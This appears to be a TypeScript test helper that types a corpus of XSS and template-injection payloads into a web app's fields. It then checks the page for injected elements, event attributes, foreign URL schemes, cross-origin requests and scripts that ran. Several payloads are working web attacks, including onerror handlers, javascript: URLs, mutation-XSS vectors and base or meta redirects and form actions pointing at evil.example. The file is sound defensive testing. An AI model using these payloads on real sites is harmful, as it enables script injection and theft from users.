import type { Browser, Page } from 'playwright-core'
import type { Viewer } from '#base/viewer.ts'
import { openTab, type Tab } from './browser.ts'
import type { Scene } from './scene.ts'

/** Tag of which no page of ours has an element: one in a page is markup that was let through. */
const mark = 'x-pwn'
const run = 'pwned(1)'

/**
 * What is typed by whoever wants a script to run (OWASP's filter evasion, DOMPurify's tests, Turbo's and handlebars' own ways), the shortest
 * first.
 */
const payloads = [
  `<${mark}>`,
  `"><${mark} a="`,
  `'><${mark} a='`,
  `javascript:${run}`,
  '{{7*7}}${7*7}',
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `" onfocus=${run} autofocus="`,
  `' style='background:url(//evil.example)' '`,
  `--><${mark}><!--`,
  `</textarea></title></style></option></select></noscript></template><${mark}>`,
  `<a href="java&#x0A;script:${run}">x</a>`,
  `<a href=" &#14; javascript:${run}">x</a>`,
  `&lt;${mark}&gt; &#60;${mark}&#62; \\x3c${mark}\\x3e %3C${mark}%3E`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><${mark}>"></xmp><plaintext><${mark}>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe><embed src="javascript:${run}"><object data="javascript:${run}"></object>`,
  `<template><${mark}></template><style>*{--taken:1}</style><base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<turbo-stream action="append" target="main"><template><${mark}></template></turbo-stream><turbo-frame src="//evil.example" id="f"></turbo-frame>`,
  `<p data-flash data-focus="main">x</p><live-source channels="home" since="0-0"></live-source>`,
  `<form action="//evil.example"><button formaction="javascript:${run}">x</button></form>`,
  `<details open ontoggle=${run}><video><source onerror=${run}></video><body onpageshow=${run}>`,
  `{{constructor.constructor('${run}')()}} {{{raw}}} <%= 7 %> #{7} [[7]]`,
]

/** As many of them as fit into a field of so many characters. */
export function corpus(most = 4000): string {
  let text = ''
  for (const one of payloads) if (text.length + one.length + 1 <= most) text += (text ? ' ' : '') + one
  return text
}

/** In the page: what is there that no page of ours has, an element or an attribute. */
const strange = `(() => {
  const found = []
  const say = (what, one) => found.push(what + ': ' + one.outerHTML.slice(0, 160))
  const roots = [document.documentElement]
  const banned = 'x-pwn, iframe, object, embed, base, math, frame, applet, xmp, plaintext, foreignObject, animate, set, meta[http-equiv], [srcdoc]'
  const address = ['href', 'src', 'action', 'formaction', 'data', 'poster', 'xlink:href']
  for (let root; (root = roots.pop());) {
    for (const one of root.querySelectorAll('*')) {
      if (one.localName === 'template') roots.push(one.content)
      if (one.matches(banned)) say('element', one)
      if (one.localName === 'script' && !(one.getAttribute('src') ?? '').startsWith('/assets/')) say('script', one)
      if (one.localName === 'style' && !one.textContent.includes('turbo-progress-bar')) say('style', one)
      for (const { name, value } of one.attributes) {
        // The list that opens while somebody types is put in its place by a script, which the policy allows.
        if (name.startsWith('on') || (name === 'style' && !one.closest('text-expander'))) say('attribute ' + name, one)
        if (!address.includes(name) || value === '') continue
        const scheme = new URL(value, location.href).protocol
        if (!['http:', 'https:', 'mailto:', 'blob:'].includes(scheme)) say('address ' + scheme, one)
        const asks = one.matches('form, button, img, source, video, audio, link, script, use, live-source, turbo-frame')
        if (asks && !['blob:'].includes(scheme) && new URL(value, location.href).origin !== location.origin) say('elsewhere', one)
      }
    }
  }
  if (getComputedStyle(document.body).getPropertyValue('--taken') !== '') found.push('a style was taken')
  if (new URL('/home', document.baseURI).origin !== location.origin) found.push('the base was moved')
  return found
})()`

export interface HostileTab extends Tab {
  /** What is wrong with the page that is open, and all that ran, broke the policy or left the origin since the last time. */
  findings(page?: Page): Promise<string[]>
}

/** A window in which whatever is not ours is noticed: a script that runs, a dialog, an element, a request, an attempt that the policy stops. */
export async function openHostileTab(browser: Browser, { web }: Pick<Scene, 'web'>, as: Viewer, worker = false): Promise<HostileTab> {
  const tab = await openTab(browser, web, { as, worker })
  const ran: string[] = []
  await tab.context.exposeFunction('pwned', () => ran.push('a script ran'))
  tab.context.on('dialog', (dialog) => {
    ran.push(`dialog: ${dialog.message()}`)
    dialog.dismiss().catch(() => undefined)
  })
  return {
    ...tab,
    async findings(page = tab.page) {
      const wrong: string[] = await page.evaluate(strange)
      return [...wrong, ...ran.splice(0), ...tab.faults.splice(0)]
    },
  }
}
